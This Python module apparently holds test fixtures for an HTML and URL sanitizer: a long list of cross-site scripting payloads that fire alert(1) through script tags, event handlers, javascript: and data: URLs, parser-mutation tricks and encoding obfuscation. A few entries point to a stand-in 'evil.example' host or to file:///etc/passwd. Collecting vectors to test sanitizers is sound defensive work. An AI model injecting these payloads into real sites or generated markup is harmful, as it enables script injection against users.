"""Cross-site scripting vectors. Each tries to call alert in the document it ends up in."""

MARKUP: tuple[str, ...] = tuple(
    line
    for line in r'''
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script >alert(1)</script >
<script/x>alert(1)</script>
<script
>alert(1)</script>
<scr<script>ipt>alert(1)</script>
<<script>alert(1)//<</script>
<script src=data:,alert(1)></script>
<script src="data:text/javascript,alert(1)"></script>
<script type=module>alert(1)</script>
<script>alert(1)
<script>/*</script>*/alert(1)</script>
<script><!--alert(1)--></script>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href=data:,alert(1) />
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg	onload=alert(1)>
<svg onload="alert(1)"
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x:x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x
onerror=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=alert&lpar;1&rpar;>
<img src=`x` onerror=alert(1)>
<img src='x' onerror=alert`1`>
<img """><script>alert(1)</script>">
<img src="x` `<script>alert(1)</script>"` `>
<img src onerror =alert(1)>
<img src=x onerror	=	alert(1)>
<img src=x onload=alert(1) onerror=alert(1)//
<img srcset=x onerror=alert(1)>
<img src="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<a onmouseover=alert(1) autofocus onfocus=alert(1) href=x tabindex=1>x</a>
<a href=javascript:alert(1)>x</a>
<a href="javas&#99;ript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x09;javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="JaVaScRiPt:alert(1)" target=_self>x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="https://ok.pl" ping="javascript:alert(1)" onclick=alert(1)>x</a>
<area href=javascript:alert(1) shape=default>
<base href="javascript:alert(1)//">
<base href=//evil.example/>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background="javascript:alert(1)">
<body onhashchange=alert(1)><a href=#x>x</a>
<bgsound src="javascript:alert(1)">
<button onclick=alert(1) autofocus onfocus=alert(1)>x</button>
<button formaction=javascript:alert(1) form=f>x</button><form id=f></form>
<details open ontoggle=alert(1)>x</details>
<details/open/ontoggle=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div onpointerover=alert(1)>x</div>
<div style="width:expression(alert(1))">x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div style="background:url('data:text/html,<script>alert(1)</script>')">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="-moz-binding:url(x.xml#x)">x</div>
<div style="x:\65xpression(alert(1))">x</div>
<div style="background-image:\75rl(javascript:alert(1))">x</div>
<div style="x:exp/**/ression(alert(1))">x</div>
<div style="}</style><script>alert(1)</script>">x</div>
<div onfocusin=alert(1) tabindex=1 autofocus>x</div>
<div onanimationstart=alert(1) style="animation:x 1s">x</div><style>@keyframes x{}</style>
<embed src="javascript:alert(1)">
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<form action=javascript:alert(1)><input type=submit autofocus></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form onsubmit=alert(1)><input type=image src=x onerror=alert(1)></form>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<head onload=alert(1)></head>
<html onclick=alert(1) onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe onload=alert(1)></iframe>
<iframe src="data:text/html,<script>alert(1)</script>">
<iframe/onload=alert(1)//
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input type=text value=x onfocus=alert(1) autofocus>
<input type=checkbox onclick=alert(1) autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<label onmouseover=alert(1)>x</label>
<link rel=stylesheet href=javascript:alert(1)>
<link rel=stylesheet href="data:text/css,*{x:expression(alert(1))}">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=script href=x onerror=alert(1) onload=alert(1)>
<listing><img src=x onerror=alert(1)></listing>
<marquee onstart=alert(1)>x</marquee>
<marquee behavior=alternate onbounce=alert(1)>x</marquee>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Content-Type" content="text/html; charset=utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<meta http-equiv="Set-Cookie" content="a=b">
<meta charset=utf-7>
<meter onmouseover=alert(1)>x</meter>
<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img src="</noframes><img src=x onerror=alert(1)>"></noframes>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noscript><img src=x onerror=alert(1)></noscript>
<object data=javascript:alert(1)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object onerror=alert(1) data=x></object>
<object><param name=movie value=javascript:alert(1)></object>
<option onclick=alert(1)>x</option>
<p title="--><img src=x onerror=alert(1)>">x</p>
<p/onmouseover=alert(1) style=position:fixed;inset:0>x</p>
<plaintext><img src=x onerror=alert(1)>
<portal src=javascript:alert(1) onload=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<select><style></select><img src=x onerror=alert(1)></style>
<select><template><style><!--</style><a rel="--></style></template><img src=x onerror=alert(1)>">
<source onerror=alert(1) src=x>
<style>@import 'javascript:alert(1)';</style>
<style>@import url("data:text/css,*{x:expression(alert(1))}");</style>
<style>*{x:expression(alert(1))}</style>
<style><img src="</style><img src=x onerror=alert(1)>"></style>
<style></style><script>alert(1)</script>
<style><!--</style><script>alert(1)//--></script>
<style onload=alert(1)></style>
<style>body{background:url("javascript:alert(1)")}</style>
<style>a{b:'</style/><img src=x onerror=alert(1)>'}</style>
<style>/*</style><img src=x onerror=alert(1)>*/</style>
<table background="javascript:alert(1)"><tr><td>x</table>
<table><td background="javascript:alert(1)">x</table>
<table><tr><td>x</td></tr><caption onclick=alert(1)><img src=x onerror=alert(1)></caption></table>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<textarea autofocus onfocus=alert(1)>x</textarea>
<textarea></textarea><img src=x onerror=alert(1)>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title></title><img src=x onerror=alert(1)>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<track src=x onerror=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay onplay=alert(1) src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA=">
<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>
<x contenteditable onblur=alert(1)>x</x>
<x/onpointerrawupdate=alert(1)>x
<xmp><img src="</xmp><img src=x onerror=alert(1)>"></xmp>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<xml onreadystatechange=alert(1)>
<xss style="animation-name:x" onanimationstart="alert(1)"></xss>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--[if mso]><img src=x onerror=alert(1)><![endif]-->
<!--[if mso]>--><img src=x onerror=alert(1)><!--<![endif]-->
<!--[if mso]><p title="--><img src=x onerror=alert(1)>"><![endif]-->
<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->
<!--[if <img src=x onerror=alert(1)> ]>--><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<![if <img src=x onerror=alert(1)>]>
<!doctype html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?php echo 1 ?><img src=x onerror=alert(1)>
<? <img src=x onerror=alert(1)> ?>
</p><img src=x onerror=alert(1)>
</div></td></tr></table><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</mj-text><mj-raw><script>alert(1)</script></mj-raw>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover=alert(1) autofocus onfocus=alert(1) x="
' onfocus=alert(1) autofocus tabindex=1 x='
` onerror=alert(1) `
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
%3Cscript%3Ealert(1)%3C/script%3E
<a href="https://ok.pl/&quot;onclick=alert(1)//">x</a>
<a title='"><img src=x onerror=alert(1)>'>x</a>
<a title="<img src=x onerror=alert(1)>">x</a>
<b <script>alert(1)</script>0
<b/alt="/"onmouseover=alert(1)//">x</b>
<div<svg onload=alert(1)>>
<div/<img src=x onerror=alert(1)>
<div id="a><img src=x onerror=alert(1)>
<img title="`><img src=x onerror=alert(1)>">
<img src="https://ok.pl/x.png" style="x:'</style><script>alert(1)</script>'">
<font style='font-family:"</style><img src=x onerror=alert(1)>"'>x</font>
<v:rect onerror=alert(1) src=x style="behavior:url(#default#VML)"></v:rect>
<o:p onclick=alert(1)>x</o:p>
<a:b xmlns:a="http://www.w3.org/1999/xhtml" onclick=alert(1)>x</a:b>
<html xmlns:x="javascript:alert(1)" manifest=x>
<td><svg><desc><td><title><math><style><!--</style></math></title><img src=x onerror=alert(1)>
<p><svg><style><g title="</style><img src=x onerror=alert(1)>"></svg>
<h1><ul></h1><noscript><ul><style></noscript><img src=x onerror=alert(1)></style>
<div contextmenu=x>x<menu type=context id=x onshow=alert(1)></menu></div>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">
'''.strip().split("\n")  # noqa: E501
    if line
)

ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "  javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\njavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript\t:alert(1)",
    "\x01javascript:alert(1)",
    "\x0bjavascript:alert(1)",
    "\x0cjavascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "java\u200bscript:alert(1)",
    "java\u00adscript:alert(1)",
    "\u0000javascript:alert(1)",
    "javascript:alert(1)//https://ok.pl",
    "javascript:/*https://ok.pl*/alert(1)",
    "javascript://ok.pl/%0aalert(1)",
    "javascript:https://ok.pl;alert(1)",
    "javascript\uff1aalert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://ok.pl/1",
    "file:///etc/passwd",
    "filesystem:https://ok.pl/x",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "about:blank",
    "chrome://settings",
    "feed:javascript:alert(1)",
    "intent://x#Intent;scheme=javascript;end",
    "https:javascript:alert(1)",
    '"onmouseover=alert(1) x="',
    "'onfocus=alert(1) autofocus x='",
    "x onerror=alert(1)",
    'https://ok.pl/"onclick=alert(1)//',
    "https://ok.pl/'><img src=x onerror=alert(1)>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "j%61vascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "mailto:a@b.c?body=<script>alert(1)</script>",
    "#javascript:alert(1)",
    "?javascript:alert(1)",
    ":javascript:alert(1)",
)
